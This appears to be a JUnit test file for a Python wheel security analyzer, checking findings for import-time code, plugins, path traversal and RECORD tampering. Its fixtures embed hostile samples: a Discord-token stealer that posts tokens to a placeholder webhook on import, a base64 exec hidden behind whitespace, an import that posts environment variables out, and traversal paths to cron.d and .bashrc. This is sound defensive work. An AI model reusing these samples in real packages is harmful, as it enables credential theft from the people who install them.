package dev.gatehouse.analyzer.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Analysis;
import dev.gatehouse.analyzer.AnalysisLimits;
import dev.gatehouse.analyzer.Analyzer;
import dev.gatehouse.analyzer.ArchiveFinding;
import dev.gatehouse.analyzer.ArchiveProblem;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.ArchiveFixture;
import dev.gatehouse.analyzer.fixtures.WheelFixture;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Import-time code, plugins, placements and the archive checks of wheels. */
class WheelAnalyzerTest {
  @TempDir Path tmp;

  private final Analyzer analyzer = new Analyzer(AnalysisLimits.defaults());

  private Analysis analyze(WheelFixture wheel) throws IOException {
    return analyzer.analyze(wheel.build(tmp), ArtifactKind.WHEEL);
  }

  private static List<CodeFinding> by(Analysis a, Trigger trigger) {
    return a.codeFindings().stream().filter(f -> f.trigger() == trigger).toList();
  }

  /** The W4SP stealer family: an __init__.py that reads Discord tokens and posts them when imported. */
  @Test
  void w4spStyleInitThatPostsDiscordTokensOnImportIsCritical() throws IOException {
    Analysis a = analyze(WheelFixture.named("pyhttpx-utils", "0.0.3")
        .file("pyhttpx_utils/__init__.py", """
            import os, re, json
            from urllib.request import Request, urlopen

            WEBHOOK = 'https://discord.c.invalid/api/webhooks/1/x'

            def find_tokens(path):
                path += '\\\\Local Storage\\\\leveldb'
                tokens = []
                for file_name in os.listdir(path):
                    if not file_name.endswith('.ldb'):
                        continue
                    for line in open(f'{path}\\\\{file_name}', errors='ignore').readlines():
                        tokens += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line)
                return tokens

            def main():
                roaming = os.getenv('APPDATA')
                tokens = find_tokens(roaming + '\\\\Discord')
                urlopen(Request(WEBHOOK, data=json.dumps({'content': tokens}).encode()))

            main()
            """));
    assertThat(by(a, Trigger.IMPORT_TIME)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.CREDENTIAL_READ);
      assertThat(f.evidence().path()).isEqualTo("pyhttpx_utils/__init__.py");
      assertThat(f.summary()).startsWith("importing pyhttpx_utils runs top-level code in pyhttpx_utils/__init__.py; it reads credential files");
    });
  }

  @Test
  void codeHiddenFarRightOfAnInnocentLineIsObfuscatedDynamicCode() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0").file("demo/__init__.py",
        "import os" + " ".repeat(200) + ";__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"));
    assertThat(by(a, Trigger.IMPORT_TIME)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD, Capability.OBFUSCATION);
    });
  }

  @Test
  void aPackageWhoseModulesOnlyDefineThingsHasNoFindings() throws IOException {
    Analysis a = analyze(WheelFixture.named("tidy", "2.0")
        .file("tidy/__init__.py", "\"\"\"Run exec(x) or os.system at your own risk.\"\"\"\nfrom .core import build\n__all__ = ['build']\n")
        .file("tidy/core.py", """
            import os, subprocess, requests

            DEFAULT_URL = 'https://api.c.invalid/'
            SSH_CONFIG = os.path.expanduser('~/.ssh/config')

            class Client:
                def __init__(self, url=DEFAULT_URL):
                    self.session = requests.Session()

                def fetch(self):
                    return self.session.get(DEFAULT_URL)

            def build(target):
                # exec(target) would be wrong here
                return subprocess.run(['make', target], env=dict(os.environ))
            """)
        .file("tidy/__main__.py", "from .core import build\nbuild('all')\n")
        .entryPoints("[console_scripts]\ntidy = tidy.core:build\n"));
    assertThat(a.findings()).isEmpty();
  }

  @Test
  void pytestPluginWhoseModuleUsesTheNetworkWhenLoadedIsMedium() throws IOException {
    Analysis a = analyze(WheelFixture.named("pytest-beacon", "1.0")
        .file("pytest_beacon/plugin.py", "import urllib.request\nurllib.request.urlopen('https://c.invalid/hello')\n"
            + "def pytest_configure(config):\n    pass\n")
        .entryPoints("[pytest11]\nbeacon = pytest_beacon.plugin\n\n[console_scripts]\nbeacon = pytest_beacon.plugin:main\n"));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK);
      assertThat(f.evidence().location()).isEqualTo("[pytest11] beacon");
      assertThat(f.evidence().excerpt()).isEqualTo("beacon = pytest_beacon.plugin");
    });
  }

  @Test
  void aPluginThatOnlyDefinesHooksIsLow() throws IOException {
    Analysis a = analyze(WheelFixture.named("flake8-tidy", "1.0")
        .file("flake8_tidy/__init__.py", "import ast\nclass Checker:\n    name = 'tidy'\n    def run(self):\n        return []\n")
        .entryPoints("[flake8.extension]\nTDY = flake8_tidy:Checker\n"));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
  }

  @Test
  void aJupyterConfigThatEnablesAServerExtensionIsAPlugin() throws IOException {
    Analysis a = analyze(WheelFixture.named("jext", "1.0")
        .file("jext/__init__.py", "def _load_jupyter_server_extension(app):\n    pass\n")
        .data("data/etc/jupyter/jupyter_server_config.d/jext.json",
            "{\"ServerApp\": {\"jpserver_extensions\": {\"jext\": true}}}"));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.summary()).contains("enables the Jupyter server extension jext");
    });
  }

  @Test
  void filesPlacedOutsideThePackageAreRecordedByScheme() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0")
        .data("scripts/demo-tool", "#!python\nprint('hi')\n")
        .data("data/share/man/man1/demo.1", ".TH DEMO 1\n"));
    assertThat(by(a, Trigger.INSTALLED_FILE)).hasSize(2).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.INFO))
        .anySatisfy(f -> assertThat(f.summary()).isEqualTo(
            "installs 1 file into the environment's bin folder, as commands on the PATH: demo-tool"));
  }

  @Test
  void absoluteAndClimbingDestinationsInsideTheDataFolderArePathTraversal() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0")
        .data("data//etc/cron.d/demo", "* * * * * root true\n")
        .data("data/../../../home/user/.bashrc", "true\n"));
    assertThat(a.archiveFindings()).extracting(ArchiveFinding::problem)
        .containsOnly(ArchiveProblem.PATH_TRAVERSAL).hasSize(2);
  }

  @Test
  void aFileAddedAfterTheBuildAndLeftOutOfRecordIsAFinding() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0")
        .file("demo/__init__.py", "x = 1\n").file("demo/extra.py", "y = 2\n").unrecorded("demo/extra.py"));
    assertThat(a.archiveFindings()).singleElement().satisfies(f -> {
      assertThat(f.problem()).isEqualTo(ArchiveProblem.RECORD_MISMATCH);
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.evidence().path()).isEqualTo("demo/extra.py");
    });
  }

  @Test
  void aFileChangedAfterTheBuildDiffersFromItsRecordDigest() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0")
        .file("demo/__init__.py", "x = 1\n").tamperedAfterBuild("demo/__init__.py", "x = 2\n"));
    assertThat(a.archiveFindings()).singleElement().satisfies(f -> {
      assertThat(f.problem()).isEqualTo(ArchiveProblem.RECORD_MISMATCH);
      assertThat(f.summary()).contains("sha256 differs");
    });
  }

  @Test
  void aWheelWithoutRecordIsAFinding() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0").file("demo/__init__.py", "x = 1\n").withoutRecord());
    assertThat(a.archiveFindings()).singleElement()
        .satisfies(f -> assertThat(f.summary()).isEqualTo("wheel has no RECORD, so nothing vouches for its files"));
  }

  @Test
  void aDistInfoThatNamesAnotherDistributionThanItsMetadataIsAFinding() throws IOException {
    Analysis a = analyze(WheelFixture.named("requests", "2.31.0").file("requests/__init__.py", "x = 1\n")
        .metadataSays("requestz", "2.31.0"));
    assertThat(a.archiveFindings()).singleElement().satisfies(f -> {
      assertThat(f.problem()).isEqualTo(ArchiveProblem.METADATA_MISMATCH);
      assertThat(f.summary()).isEqualTo("requests-2.31.0.dist-info names the distribution requests but METADATA says requestz");
    });
  }

  @Test
  void namesAndVersionsAreComparedAfterNormalization() throws IOException {
    Analysis a = analyze(WheelFixture.named("zope_interface", "6.0.0").file("zope/interface/__init__.py", "x = 1\n")
        .metadataSays("zope.interface", "6.0"));
    assertThat(a.findings()).isEmpty();
  }

  @Test
  void aBrokenZipIsAMalformedArchiveNotACleanResult() throws IOException {
    Path wheel = tmp.resolve("broken-1.0-py3-none-any.whl");
    byte[] zip = ArchiveFixture.create().file("broken/__init__.py", "x = 1\n").zipBytes(tmp.resolve("scratch.zip"));
    Files.write(wheel, java.util.Arrays.copyOf(zip, zip.length - 30));
    Analysis a = analyzer.analyze(wheel, ArtifactKind.WHEEL);
    assertThat(a.worst()).hasValueSatisfying(s -> assertThat(s).isGreaterThanOrEqualTo(Severity.HIGH));
    assertThat(a.archiveFindings()).extracting(ArchiveFinding::problem).contains(ArchiveProblem.MALFORMED);
  }

  @Test
  void testModulesAreReportedButNotAboveLowUnlessTheyLookLikeAnAttack() throws IOException {
    Analysis a = analyze(WheelFixture.named("demo", "1.0")
        .file("demo/tests/test_net.py", "import socket\nPORT = socket.socket().getsockname()\n"));
    assertThat(by(a, Trigger.IMPORT_TIME)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.summary()).endsWith("(a test module: it runs under a test runner, not on import)");
    });
  }

  @Test
  void theSameBytesGiveEqualAnalyses() throws IOException {
    WheelFixture wheel = WheelFixture.named("demo", "1.0")
        .file("demo/__init__.py", "import os, requests\nrequests.post('https://c.invalid', json=dict(os.environ))\n")
        .file("demo.pth", "import demo\n").data("scripts/a", "x").data("scripts/b", "y");
    Path file = wheel.build(tmp);
    assertThat(analyzer.analyze(file, ArtifactKind.WHEEL)).isEqualTo(analyzer.analyze(file, ArtifactKind.WHEEL));
  }
}
